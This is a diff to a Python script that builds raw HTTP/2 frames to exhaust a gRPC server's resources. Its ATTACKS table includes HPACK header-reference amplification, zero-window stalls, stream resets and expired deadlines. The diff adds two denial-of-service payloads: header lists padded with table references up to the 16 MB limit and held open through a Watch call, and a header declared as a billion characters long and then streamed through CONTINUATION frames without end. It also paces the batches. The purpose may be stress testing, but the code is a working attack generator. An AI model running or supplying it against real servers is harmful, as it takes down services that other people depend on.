@@ -30,7 +30,9 @@ CHECK, WATCH = b"/grpc.health.v1.Health/Check", b"/grpc.health.v1.Health/Watch"
 STREAMS_MAX = 2**31 - 1
 BATCH = 10  # Calls that are sent at once.
 VALUE_CHARS = 3000  # Of the header that is referred to: it fits the default table of 4096 bytes.
-REFERENCES = 16_000  # In a frame of at most 16,384 bytes.
+FRAME_BYTES = 16_000  # A frame has at most 16,384.
+LIST_BYTES_MAX = 16 << 20  # Of a header list, until the server's settings are acknowledged.
+ENDLESS_CHARS = 1 << 30
 ACKNOWLEDGEMENTS = ("correct", "early", "missing")
 
 
@@ -76,12 +78,29 @@ def empty_message(stream: int) -> bytes:
     return frame(DATA, END_STREAM, stream, bytes(5))
 
 
-def references(stream: int) -> bytes:
-    """A header in the table of the connection, then 8 frames that name it byte by byte."""
-    added = b"\x40" + integer(1, 7) + b"x" + integer(VALUE_CHARS, 7) + b"v" * VALUE_CHARS
-    first = frame(HEADERS, 0, stream, call_headers(CHECK) + added)
-    named = frame(CONTINUATION, 0, stream, b"\xbe" * REFERENCES)
-    return first + 7 * named + frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * REFERENCES)
+def references(
+    stream: int, path: bytes = CHECK, chars: int = VALUE_CHARS, count: int = 8 * FRAME_BYTES
+) -> bytes:
+    """A header in the table of the connection, then frames that name it byte by byte."""
+    added = b"\x40" + integer(1, 7) + b"x" + integer(chars, 7) + b"v" * chars
+    first = frame(HEADERS, 0, stream, call_headers(path) + added)
+    sizes = [min(FRAME_BYTES, count - sent) for sent in range(0, count, FRAME_BYTES)]
+    named = b"".join(frame(CONTINUATION, 0, stream, b"\xbe" * size) for size in sizes)
+    return first + named + frame(CONTINUATION, END_HEADERS, stream, b"")
+
+
+def large_list(stream: int) -> bytes:
+    """A watch with as many references as gRPC takes, which it keeps as long as the watch."""
+    chars = 247
+    count = LIST_BYTES_MAX // (1 + chars + 32) - 4  # RFC 7541, section 4.1; less the call's own.
+    return references(stream, WATCH, chars, count) + empty_message(stream)
+
+
+def endless_block(stream: int) -> bytes:
+    """The beginning of one header, then frames of its value."""
+    if stream > 1:
+        return frame(CONTINUATION, 0, 1, b"v" * FRAME_BYTES)
+    return frame(HEADERS, 0, 1, b"\0" + integer(1, 7) + b"x" + integer(ENDLESS_CHARS, 7))
 
 
 def unread_answer(stream: int) -> bytes:
@@ -125,6 +144,8 @@ def expired(stream: int) -> bytes:
     return begin(stream, call_headers(CHECK, literal(b"grpc-timeout", b"1n")))
 
 
+PAUSED_SECONDS = {"large header lists": 0.5}
+"""Between batches, of attacks that are no flood of calls."""
 ATTACKS: dict[str, tuple[Callable[[int], bytes], bytes]] = {
     "header references": (references, b""),
     "unread answers": (unread_answer, struct.pack(">HI", 4, 0)),  # INITIAL_WINDOW_SIZE = 0.
@@ -134,6 +155,8 @@ ATTACKS: dict[str, tuple[Callable[[int], bytes], bytes]] = {
     "half-sent calls": (half_sent, b""),
     "resets": (reset, b""),
     "expired deadlines": (expired, b""),
+    "large header lists": (large_list, b""),
+    "endless headers": (endless_block, b""),
 }
 
 
@@ -173,6 +196,7 @@ def bytes_of(
         some = b"".join(make(stream) for stream in range(first, first + 2 * BATCH, 2))
         total += len(some)
         yield some
+        time.sleep(PAUSED_SECONDS.get(name, 0))
 
 
 def read_all(connection: socket.socket) -> None:
